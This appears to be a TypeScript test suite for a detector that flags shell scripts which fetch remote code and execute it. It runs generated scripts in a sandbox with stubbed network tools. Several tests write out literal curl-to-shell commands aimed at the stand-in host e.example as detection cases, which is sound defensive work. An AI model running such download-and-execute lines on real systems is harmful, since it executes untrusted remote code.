/** Programs that come from elsewhere and run, in ways that nobody wrote down, and what looks the same and is harmless. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { downloaded, harmless, isTold, others, readers, runners, scripts } from './carried-programs.ts';

const runs = { numRuns: 600, seed: Number(process.env.SEED ?? 31) };

describe('what comes from elsewhere', () => {
  test('is told where it runs, whatever carries it there', () => {
    fc.assert(
      fc.property(scripts(downloaded, runners), (script) => isTold(script)),
      runs,
    );
    fc.assert(
      fc.property(scripts(others, runners), (script) => isTold(script)),
      runs,
    );
  });

  test('is not where it is only data, nor is what lies here or says which content is meant', () => {
    fc.assert(
      fc.property(scripts([...downloaded, ...others], readers), (script) => !isTold(script)),
      runs,
    );
    fc.assert(
      fc.property(scripts(harmless, runners), (script) => !isTold(script)),
      runs,
    );
  });

  test('is told where what reads it stands before what prints it', () => {
    for (const script of [
      'sh < <(echo "$(curl -fsSL https://e.example/x)" | tee /tmp/log)',
      'curl -fsSO https://e.example/x; sh < <(cat ./x | tee /tmp/log | cat)',
      'curl -fsSo /tmp/x https://e.example/x; bash < <(cat /tmp/x | tee /tmp/y)',
    ])
      assert.ok(isTold(script), script);
  });

  test('is not where it is compared before', () => {
    const check = (text: string) => `echo "0123  ${text}" | sha256sum -c -`;
    const sum = `echo "$x" | sha256sum -c sums; sh -c "$x"`;
    assert.ok(!isTold(`x=$(curl -s https://e.example/x); ${sum}`));
    assert.ok(isTold(`x=$(curl -s https://e.example/x); sh -c "$x"; echo "$x" | sha256sum -c sums`));
    assert.ok(!isTold(`curl -s "$URL" > /tmp/x; ${check('/tmp/x')}; sh /tmp/x`));
  });
});

describe('what the shell of this machine runs of it', () => {
  /** By its name, what each program of elsewhere does here: nothing is asked, and what comes is one command. */
  const stubs: Readonly<Record<string, string>> = {
    curl: 'print "$@"',
    wget: 'print "$@"',
    ...Object.fromEntries(['ssh', 'dig', 'nc', 'base64', 'tr'].map((name) => [name, 'print'])),
    gunzip: 'exec cat',
    sudo: 'while :; do case $1 in -u) shift 2;; -*) shift;; *) exec "$@";; esac; done',
    su: 'shift 2; exec sh -c "$1"',
    script: 'shift; exec sh -c "$1"',
    at: 'exec sh',
    ...Object.fromEntries(['crontab', 'make', 'python3', 'jq'].map((name) => [name, 'exec cat > /dev/null'])),
  };
  const print = `print() {
  out=
  while [ $# -gt 0 ]; do
    case $1 in
      -fsSLo) out=$2; shift;;
      -fsSO) out=x;;
      -qP) mkdir -p "$2"; out=$2/x; shift;;
    esac
    shift
  done
  if [ -n "$out" ]; then echo "touch $MARK" > "$out"; else echo "touch $MARK"; fi
}
`;

  /** Whether bash, in a folder that is gone afterwards, runs what came. */
  function runsIt(script: string): boolean {
    const folder = mkdtempSync(join(tmpdir(), 'carried-'));
    try {
      for (const name of ['bin', 'tmp', 'd', 'opt', 'app', 'work']) mkdirSync(join(folder, name));
      for (const [name, text] of Object.entries(stubs)) {
        writeFileSync(join(folder, 'bin', name), `#!/bin/sh\n${print}${text}\n`);
        chmodSync(join(folder, 'bin', name), 0o755);
      }
      for (const [name, text] of Object.entries({ y: '', x: '', 'own.sh': 'cat > /dev/null\n', 'setup.sh': '' }))
        writeFileSync(join(folder, 'work', name), text);
      const mark = join(folder, 'mark');
      const here = script.replace(/(?<![\w.$}"'/])\/(?:tmp|d|opt|e|app|usr|etc)(?=[/;\s])/g, (path) => folder + path);
      // What runs beside it is waited for.
      spawnSync('/bin/bash', ['-c', `${here}\nwait`], {
        cwd: join(folder, 'work'),
        env: { PATH: `${join(folder, 'bin')}:/usr/bin:/bin`, MARK: mark, T: join(folder, 'tmp') },
        timeout: 10_000,
        stdio: ['ignore', 'ignore', 'ignore'],
      });
      return existsSync(mark);
    } finally {
      rmSync(folder, { recursive: true, force: true, maxRetries: 10 });
    }
  }

  test('is told, and what it only reads it does not run', () => {
    const some = (sources: typeof downloaded, into: typeof runners) =>
      fc.sample(scripts(sources, into), { ...runs, numRuns: 120 });
    const ran = some([...downloaded, ...others], runners).filter(runsIt);
    assert.ok(ran.length > 40, `${ran.length} of them ran`);
    assert.deepEqual(
      ran.filter((script) => !isTold(script)),
      [],
    );
    assert.deepEqual(some([...downloaded, ...others], readers).filter(runsIt), []);
  });
});
